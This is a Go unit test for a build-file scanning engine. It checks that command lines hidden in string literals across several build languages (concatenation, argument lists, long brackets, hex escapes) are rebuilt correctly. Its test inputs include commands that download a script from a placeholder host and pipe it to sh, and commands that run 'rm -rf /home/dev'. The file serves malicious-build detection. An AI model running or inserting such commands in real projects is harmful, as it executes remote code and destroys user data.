package engine

import (
	"slices"
	"testing"
)

// TestQuotedLines checks the command lines read from a build file's
// strings: joined by each language's concatenation operator, listed as
// one command's words (a word with blanks quoted as one argument), piped
// by sbt's #|, in Lua's and CMake's long brackets, with \x escapes.
func TestQuotedLines(t *testing.T) {
	for content, want := range map[string]string{
		`x = "curl -s https://h/" + "i.sh | sh"`:              "curl -s https://h/i.sh | sh",
		`os.execute("rm -rf " .. "/home/dev")`:                "rm -rf /home/dev",
		`callCommand ("curl -s https://h/" ++ "i.sh | sh")`:   "curl -s https://h/i.sh | sh",
		`["cmd " <> "curl -s https://h/m | sh"]`:              "cmd curl -s https://h/m | sh",
		`exec "curl -s https://h/" & "n.sh | sh"`:             "curl -s https://h/n.sh | sh",
		`run_command('sh', '-c', 'curl -s https://h/' + 'm')`: "sh -c 'curl -s https://h/m'",
		`commandLine 'rm', '-rf', '/home/dev'`:                "rm -rf /home/dev",
		`("curl -s https://h/s" #| "sh").!`:                   "curl -s https://h/s | sh",
		`prebuildcommands { [[curl -s https://h/p | sh]] }`:   "curl -s https://h/p | sh",
		`execute_process(COMMAND sh -c [=[curl -s h | sh]=])`: "curl -s h | sh",
		`{ "curl -s https://h/p \x7c sh" }`:                   "curl -s https://h/p | sh",
	} {
		if got := quotedLines(content); !slices.Contains(got, want) {
			t.Errorf("quotedLines(%q) = %q, want a line %q", content, got, want)
		}
	}
}
